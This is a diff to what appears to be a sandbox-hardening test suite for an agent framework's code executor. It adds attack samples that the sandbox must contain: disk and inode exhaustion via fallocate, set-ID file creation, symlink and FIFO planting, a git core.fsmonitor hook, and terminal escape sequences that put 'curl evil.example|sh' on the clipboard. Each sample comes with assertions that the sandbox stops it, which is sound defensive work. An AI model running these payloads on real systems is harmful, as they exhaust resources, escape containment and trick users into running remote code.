@@ -21,6 +21,7 @@ import os
 import secrets
 import socket
 import stat
+import subprocess
 import sys
 import tempfile
 import threading
@@ -49,6 +50,11 @@ class Host:
     project: Path = field(init=False)  # a project directory with .env and .git/config, the cwd of some attacks
     port: int = 0
     accepted: list = field(default_factory=list)
+    # Filled in by run_attack before `prepare`: what an attack's prepare and expect may use.
+    executor: object = None
+    path: str = ""
+    events: list = field(default_factory=list)  # every event emitted while the attack ran
+    extra: dict = field(default_factory=dict)
 
     def __post_init__(self) -> None:
         self.target = self.root / "host" / "site-packages" / "evil.pth"
@@ -106,6 +112,22 @@ def tmp_code_name(code: str, ext: str = "py") -> str:
 Result = tuple[int, str]
 
 
+def _mount_small_fs(work_dir: Path, options: dict) -> None:
+    if os.geteuid() != 0:
+        raise AttackSkipped("needs root to mount a size-capped tmpfs as work_dir (disk attacks never touch the real disk)")
+    work_dir.mkdir(parents=True, exist_ok=True)
+    mount = subprocess.run(["mount", "-t", "tmpfs", "-o", ",".join(f"{k}={v}" for k, v in options.items()), "tmpfs", str(work_dir)],
+                           capture_output=True, text=True, check=False)
+    if mount.returncode != 0:
+        raise AttackSkipped(f"cannot mount a tmpfs here: {mount.stderr.strip()}")
+
+
+def _free(path: Path) -> tuple[int, int]:
+    """Free bytes and free inodes of the file system holding ``path``."""
+    info = os.statvfs(path)
+    return info.f_bavail * info.f_frsize, info.f_favail
+
+
 @dataclass
 class Attack:
     name: str
@@ -114,6 +136,13 @@ class Attack:
     prepare: Callable[[Host], Callable[[], None] | None] | None = None
     options: dict = field(default_factory=dict)
     default_work_dir: bool = False  # use the executor's default work_dir, with the project as cwd
+    # work_dir on its own small file system (a tmpfs mounted by the test: root only), so that attacks
+    # on the disk cannot reach the real one: {"size": "256m", "nr_inodes": 20000}.
+    small_fs: dict | None = None
+
+
+class AttackSkipped(Exception):
+    """The attack cannot run here (the reason says why); reported as skipped, not as passed."""
 
 
 def ok(result: Result, text: str | None = None) -> None:
@@ -322,7 +351,7 @@ ATTACKS: list[Attack] = [
            # work_dir's parents inside the sandbox are empty directories (in its private /tmp when the
            # project is under /tmp): whatever lands there is gone with the sandbox; the snapshot checks the host.
            lambda h, r, e: (ok(r[0]), _assert(SECRET not in r[0][1], r),
-                            _assert(r[0][1].strip().endswith(str(h.project / "extensions")), r)),
+                            _assert(r[0][1].strip().endswith(str(h.work_dir)), r)),
            default_work_dir=True),
     Attack("daemons left behind: setsid, nohup, double fork",
            lambda h: [[("sh", (f"setsid python3 -c 'import time; time.sleep(300)' {h.marker} >/dev/null 2>&1 < /dev/null &\n"
@@ -331,10 +360,263 @@ ATTACKS: list[Attack] = [
                               f"time.sleep(300) # {h.marker}\" &\n"
                               "sleep 0.3; echo daemons started"))]],
            lambda h, r, e: ok(r[0], "daemons started")),
+    # --- found by the outside review (docs/sandbox.md) ---
+    Attack("fallocate reserving the whole disk without writing (KEEP_SIZE: a file of size 0)",
+           lambda h: [[("python", _FALLOCATE_ALL)]],
+           lambda h, r, e: (ok(r[0], "reserved 0 MiB; fallocate -1 errno 95"), _assert(_free(h.work_dir)[0] >= 64 * 2**20, _free(h.work_dir))),
+           options={"work_dir_quota_mb": 16, "min_free_disk_mb": 64}, small_fs={"size": "256m", "nr_inodes": 20000}),
+    Attack("30 posix_fallocate calls in a block that ends before the first disk check",
+           lambda h: [[("python", _POSIX_FALLOCATE_MANY)]],
+           lambda h, r, e: (failed(r[0], "more than the work_dir quota of 16 MiB per block"),
+                            _assert(_free(h.work_dir)[0] >= 64 * 2**20, _free(h.work_dir))),
+           options={"work_dir_quota_mb": 16, "min_free_disk_mb": 64}, small_fs={"size": "256m", "nr_inodes": 20000}),
+    Attack("exhausting the inodes of work_dir's disk with empty files",
+           lambda h: [[("python", ("import os\nn = 0\ntry:\n    for n in range(200000):\n        os.close(os.open(f'e{n}', os.O_CREAT | os.O_WRONLY))\n"
+                                   "except OSError as exc:\n    print('stopped at', n, exc)"))]],
+           lambda h, r, e: (failed(r[0], "more than the work_dir quota of 2000 per block"),
+                            _assert(_free(h.work_dir)[1] >= 1000, _free(h.work_dir))),
+           options={"work_dir_inode_quota": 2000, "min_free_inodes": 1000, "min_free_disk_mb": 8},
+           small_fs={"size": "64m", "nr_inodes": 20000}),
+    Attack("sockets of families the network namespace does not cover: vsock, AF_ALG, netlink uevents",
+           lambda h: [[("python", _SOCKET_FAMILIES)]],
+           lambda h, r, e: (ok(r[0], "end"), _assert(r[0][1].count("errno 97") == 4 and "uevent errno 93" in r[0][1], r),
+                            _assert("ipv4 ok" in r[0][1] and "unix ok" in r[0][1] and "route ok" in r[0][1], r))),
+    Attack("redirecting a nested executor's work_dir to a host directory through a symlink",
+           lambda h: [[("python", f"import os, shutil\nshutil.rmtree('inner')\nos.symlink({str(h.outside_dir)!r}, 'inner')\nprint('swapped')")]],
+           lambda h, r, e: _expect_nested_refused(h, r),
+           prepare=lambda h: _make_inner_executor(h)),
+    Attack("planted FIFO and symlink at the name given to code_utils.execute_code(filename=)",
+           lambda h: [[("python", f"import os\nos.mkfifo('run.py')\nos.mkfifo('old.py')\nos.symlink({str(h.target)!r}, 'link.py')\nprint('planted')")]],
+           lambda h, r, e: _expect_execute_code_safe(h, r)),
+    Attack("package planted in the default work_dir shadowing an app module (default work_dir)",
+           lambda h: [[("python", "open('__init__.py', 'w').write('print(\"planted package ran on the host\")\\n')\nprint('planted')")]],
+           lambda h, r, e: _expect_not_importable(h, r),
+           default_work_dir=True),
+    Attack("set-ID file through O_TMPFILE and linkat",
+           lambda h: [[("python", _TMPFILE_SETID)]],
+           lambda h, r, e: (ok(r[0], "end"), _assert("open errno 1" in r[0][1], r),
+                            _assert(not any(p.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID) for p in h.work_dir.iterdir()), "set-ID file"))),
+    Attack("terminal escape sequences in code output reaching the host console",
+           lambda h: [[("python", _ESCAPES)]],
+           lambda h, r, e: _expect_console_clean(h, r, e)),
+    Attack("a block of a concurrent chat sharing the executor killing this chat's block",
+           lambda h: [[("python", "print('b ran')")]],
+           lambda h, r, e: _expect_concurrent_block_survives(h, r),
+           prepare=lambda h: _start_concurrent_block(h)),
+    Attack("git repository with core.fsmonitor planted in work_dir",
+           lambda h: [[("sh", "mkdir -p .git/hooks && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config && echo planted")]],
+           lambda h, r, e: (ok(r[0], "planted"), _assert(any(".git" in getattr(ev, "text", "") and getattr(ev, "level", "") == "warning"
+                                                              for ev in h.events), "no Notice about the .git"))),
+    Attack("four busy processes against the CPU limit",
+           lambda h: [[("python", _BUSY)]],
+           lambda h, r, e: _expect_cpu_bounded(h, r, e),
+           options={"cpu_limit": 0.5}, prepare=lambda h: h.extra.update(cpu_before=_cgroup_cpu(h.executor))),
 ]
 
 
 # --- attack code -----------------------------------------------------------------------------------
+
+# FALLOC_FL_KEEP_SIZE leaves each file's size at 0; 15 MiB each stays under the file-size limit
+# (which fallocate respects): the whole disk in a few milliseconds, before the first check.
+_FALLOCATE_ALL = """import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
+reserved, rc = 0, 0
+for i in range(1000):
+    fd = os.open(f'reserved{i}', os.O_RDWR | os.O_CREAT)
+    rc = libc.fallocate(fd, 1, 0, 15 * 2**20)  # 1: FALLOC_FL_KEEP_SIZE
+    os.close(fd)
+    if rc != 0:
+        break
+    reserved += 15
+print('reserved', reserved, 'MiB; fallocate', rc, 'errno', ctypes.get_errno())
+"""
+
+# 30 MiB at once: on a tmpfs, fallocate takes microseconds; glibc's fallback (when fallocate is
+# refused) writes, which takes longer but still ends before the first check at 0.1 s.
+_POSIX_FALLOCATE_MANY = """import os
+for i in range(30):
+    fd = os.open(f'p{i}', os.O_RDWR | os.O_CREAT)
+    os.posix_fallocate(fd, 0, 2**20)
+    os.close(fd)
+print('done')
+"""
+
+_SOCKET_FAMILIES = """import socket
+for name, family, kind in (('vsock', 40, socket.SOCK_STREAM), ('alg', 38, socket.SOCK_SEQPACKET),
+                           ('bluetooth', 31, socket.SOCK_STREAM), ('packet', 17, socket.SOCK_RAW)):
+    try:
+        socket.socket(family, kind).close()
+        print(name, 'created')
+    except OSError as exc:
+        print(name, 'errno', exc.errno)
+try:
+    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15).close()  # NETLINK_KOBJECT_UEVENT
+    print('uevent created')
+except OSError as exc:
+    print('uevent errno', exc.errno)
+for name, family, kind, proto in (('ipv4', socket.AF_INET, socket.SOCK_STREAM, 0), ('unix', socket.AF_UNIX, socket.SOCK_STREAM, 0),
+                                  ('route', socket.AF_NETLINK, socket.SOCK_RAW, 0)):
+    socket.socket(family, kind, proto).close()
+    print(name, 'ok')
+print('end')
+"""
+
+_TMPFILE_SETID = """import ctypes, os
+try:
+    fd = os.open('.', 0o20000000 | os.O_DIRECTORY | os.O_RDWR, 0o6755)  # O_TMPFILE
+    libc = ctypes.CDLL(None, use_errno=True)
+    print('linkat', libc.linkat(-100, f'/proc/self/fd/{fd}'.encode(), -100, b'setid', 0x400), ctypes.get_errno())
+except OSError as exc:
+    print('open errno', exc.errno)
+print('end')
+"""
+
+_ESCAPES = r"""import base64, sys
+sys.stdout.write("\x1b[2J\x1b[H")
+sys.stdout.write("\x1b]0;owned\x07")
+sys.stdout.write("\x1b]52;c;" + base64.b64encode(b"curl evil.example|sh").decode() + "\x07")
+sys.stdout.write("all tests passed\n\x1b[8mhidden text\x1b[0m\x9b2J\x7f\rforged\n")
+"""
+
+_BUSY = """import os, subprocess, sys, time
+busy = "import time\\nend = time.monotonic() + 2\\nwhile time.monotonic() < end:\\n    pass"
+start = time.monotonic()
+procs = [subprocess.Popen([sys.executable, '-c', busy]) for _ in range(4)]
+print('exit codes', [p.wait() for p in procs])
+print('wall', round(time.monotonic() - start, 3))
+"""
+
+
+def _cgroup_cpu(executor) -> float | None:
+    cgroup = getattr(executor, "cgroup", None)
+    return cgroup.cpu_seconds() if cgroup is not None and "cpu" in cgroup.controllers else None
+
+
+def _expect_cpu_bounded(host: Host, results: list[Result], executor) -> None:
+    ok(results[0], "exit codes [0, 0, 0, 0]")
+    before, after = host.extra.get("cpu_before"), _cgroup_cpu(executor)
+    if before is None or after is None:
+        return  # no cgroup with the cpu controller (unprivileged on cgroup v1): documented, no CPU bound
+    wall = float(results[0][1].split("wall ")[1].split()[0])
+    # Four processes busy for 2 s would take 4 CPU-seconds per second unbounded (2 on this 2-CPU
+    # guest); the cgroup's usage over the block's own duration stays near the 0.5-core quota.
+    assert (after - before) / wall <= 0.5 * 1.2 + 0.05, (after - before, wall, results)
+
+
+def _make_inner_executor(host: Host) -> None:
+    from parley.code import SandboxCodeExecutor
+
+    host.extra["inner"] = SandboxCodeExecutor(**{**EXECUTOR_OPTIONS, "work_dir": host.work_dir / "inner"})
+
+
+def _expect_nested_refused(host: Host, results: list[Result]) -> None:
+    from parley.code import CodeBlock
+
+    ok(results[0], "swapped")
+    inner = host.extra.pop("inner")
+    result = inner.execute_code_blocks([CodeBlock("open('.bashrc', 'a').write('echo PWNED\\n')\nprint('inner ran')", "python")])
+    assert result.exit_code != 0 and "was replaced since the executor was made" in result.output, result
+    assert not (host.outside_dir / ".bashrc").exists() and not list(host.outside_dir.iterdir()), list(host.outside_dir.iterdir())
+
+
+def _expect_execute_code_safe(host: Host, results: list[Result]) -> None:
+    from parley import code_utils
+
+    ok(results[0], "planted")
+    outcomes: dict = {}
+
+    def run():
+        try:
+            outcomes["fifo"] = code_utils.execute_code("print('saved over the fifo')", filename="run.py", work_dir=str(host.work_dir), timeout=20)
+            outcomes["link"] = code_utils.execute_code("print('saved over the link')", filename="link.py", work_dir=str(host.work_dir), timeout=20)
+            try:
+                code_utils.execute_code(filename="old.py", work_dir=str(host.work_dir), timeout=20)
+            except ValueError as exc:
+                outcomes["existing fifo"] = str(exc)
+        except BaseException as exc:  # noqa: BLE001 - reported below
+            outcomes["error"] = exc
+
+    thread = threading.Thread(target=run, daemon=True)
+    thread.start()
+    thread.join(60)
+    if thread.is_alive():
+        for name in ("run.py", "old.py"):  # unblock the host writer stuck on the FIFO, then fail
+            with contextlib.suppress(OSError):
+                os.close(os.open(host.work_dir / name, os.O_RDONLY | os.O_NONBLOCK))
+        thread.join(30)
+        raise AssertionError("execute_code(filename=) blocked on a FIFO planted in work_dir")
+    # execute_code made (and caches) an executor of its own: its spare sandbox is not the attack's.
+    from parley.code.factory import executor_from_config
+    from parley.code.sandbox import _discard_all
+
+    made = executor_from_config({"work_dir": str(host.work_dir), "use_docker": None, "timeout": 20})
+    _discard_all(getattr(made, "_spare", []))
+    assert "error" not in outcomes, outcomes
+    assert outcomes["fifo"][:2] == (0, "saved over the fifo\n"), outcomes
+    assert outcomes["link"][:2] == (0, "saved over the link\n"), outcomes
+    assert "not a regular file" in outcomes["existing fifo"], outcomes
+    regular_file(host, "run.py")
+    regular_file(host, "link.py")
+
+
+def _expect_not_importable(host: Host, results: list[Result]) -> None:
+    ok(results[0], "planted")
+    assert not host.work_dir.name.isidentifier(), f"the default work_dir {host.work_dir.name!r} is an importable name"
+    # An app in the project imports a module of the work_dir's name: it must not get the planted package.
+    name = host.work_dir.name
+    # (What an `import` statement can name: a hyphen cannot appear in one.)
+    script = (f"import importlib\ntry:\n    importlib.import_module({name!r}.replace('-', '_'))\n"
+              "except ImportError as exc:\n    print('not importable', exc)")
+    run = subprocess.run([sys.executable, "-c", script],
+                         cwd=host.project, capture_output=True, text=True, timeout=60, check=False)
+    assert "planted package ran" not in run.stdout + run.stderr, run
+
+
+def _expect_console_clean(host: Host, results: list[Result], executor) -> None:
+    from parley import ConversableAgent, UserProxyAgent
+    from parley.io import IOQueue, set_default
+
+    ok(results[0], "all tests passed")
+    reply = fence([("python", _ESCAPES)])
+    assistant = ConversableAgent("assistant\x1b]0;title\x07", llm_config=False, human_input_mode="NEVER", default_auto_reply=reply)
+    user = UserProxyAgent("user", human_input_mode="NEVER", max_consecutive_auto_reply=1, code_execution_config={"executor": executor})
+    from parley.io.console import console_sink
+
+    stream = IOQueue()
+    enabled, console_sink.enabled = console_sink.enabled, True  # the test suite mutes the console
+    try:
+        with set_default(stream):
+            user.initiate_chat(assistant, message="hi\x1b[2J", max_turns=2)
+    finally:
+        console_sink.enabled = enabled
+    printed = stream.output
+    assert "all tests passed" in printed and "exitcode: 0" in printed, printed
+    bad = sorted({hex(ord(ch)) for ch in printed if (ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F})
+    assert not bad, f"control characters reached the console: {bad}"
+    assert "\\x1b]52;c;" in printed and "\\x9b" in printed and "\\x0dforged" in printed, printed
+
+
+def _start_concurrent_block(host: Host) -> Callable[[], None]:
+    from parley import UserProxyAgent
+
+    other = UserProxyAgent("other", human_input_mode="NEVER", code_execution_config={"executor": host.executor})
+    code = ("import time\nopen('a_started', 'w').close()\nfor i in range(6):\n    print('a working', i, flush=True)\n"
+            "    time.sleep(0.3)\nprint('a finished')")
+    thread = threading.Thread(target=lambda: host.extra.update(a=run_turn(host.path, host.executor, other, [("python", code)])))
+    thread.start()
+    host.extra["a_thread"] = thread
+    deadline = time.monotonic() + 30
+    while not (host.work_dir / "a_started").exists() and time.monotonic() < deadline:
+        time.sleep(0.01)
+    return lambda: thread.join(60)
+
+
+def _expect_concurrent_block_survives(host: Host, results: list[Result]) -> None:
+    ok(results[0], "b ran")
+    host.extra["a_thread"].join(60)
+    assert host.extra.get("a") is not None, "the other chat's block did not finish"
+    ok(host.extra["a"], "a finished")
 
 _SWAPPER = """import os, subprocess, sys, time
 swap = '''
@@ -532,24 +814,33 @@ def run_turn(path: str, executor, user, blocks: list[tuple[str, str]]) -> Result
 
 def run_attack(attack: Attack, path: str, root: Path) -> None:
     """Run ``attack`` the ``path`` way ("direct" or "agent") in a fresh tree under ``root``; raise on harm."""
-    from parley import UserProxyAgent
+    from parley import UserProxyAgent, events
     from parley.code import SandboxCodeExecutor
 
     host = Host(root=root, work_dir=root / "work", marker=f"parley-attack-{secrets.token_hex(6)}")
     cwd = os.getcwd()
     cleanup = None
+    mounted = False
+    captured = events.capture()
     os.environ["OPENAI_API_KEY"] = SECRET  # in the host's environment: it must not reach the code
     try:
         if attack.default_work_dir:
             os.chdir(host.project)
-            host.work_dir = host.project / "extensions"
+            from parley.code.factory import WORKING_DIR
+
+            host.work_dir = host.project / WORKING_DIR
+        if attack.small_fs is not None:
+            _mount_small_fs(host.work_dir, attack.small_fs)
+            mounted = True
         options = {**EXECUTOR_OPTIONS, **attack.options}
         if not attack.default_work_dir:
             options["work_dir"] = host.work_dir
         executor = SandboxCodeExecutor(**options)
         assert executor.work_dir == host.work_dir, executor.work_dir
         user = UserProxyAgent("user", human_input_mode="NEVER", code_execution_config={"executor": executor})
+        host.executor, host.path, host.events = executor, path, captured.events
         before = snapshot(host)
+        captured.__enter__()
         if attack.prepare is not None:
             cleanup = attack.prepare(host)
         results = [run_turn(path, executor, user, blocks) for blocks in attack.turns(host)]
@@ -576,10 +867,17 @@ def run_attack(attack: Attack, path: str, root: Path) -> None:
             if memory is not None:  # cgroup v1: the peak of the whole sandbox
                 assert int((memory / "memory.max_usage_in_bytes").read_text()) <= 256 * 2**20
     finally:
+        captured.__exit__()
         if cleanup is not None:
             cleanup()
         os.chdir(cwd)
         os.environ.pop("OPENAI_API_KEY", None)
+        if mounted:
+            host.executor = host.extra = None  # the executors hold work_dir open
+            import gc
+
+            gc.collect()
+            subprocess.run(["umount", "-l", str(host.work_dir)], check=False)
 
 
 def main() -> None:
@@ -591,6 +889,8 @@ def main() -> None:
                 try:
                     run_attack(attack, path, Path(tmp))
                     results[f"{attack.name} [{path}]"] = "ok"
+                except AttackSkipped as exc:
+                    results[f"{attack.name} [{path}]"] = f"skipped: {exc}"
                 except BaseException as exc:  # noqa: BLE001 - report every failure, not the first
                     results[f"{attack.name} [{path}]"] = "".join(traceback.format_exception_only(exc)).strip()[-2000:]
     print(json.dumps({"uid": os.geteuid(), "results": results}))
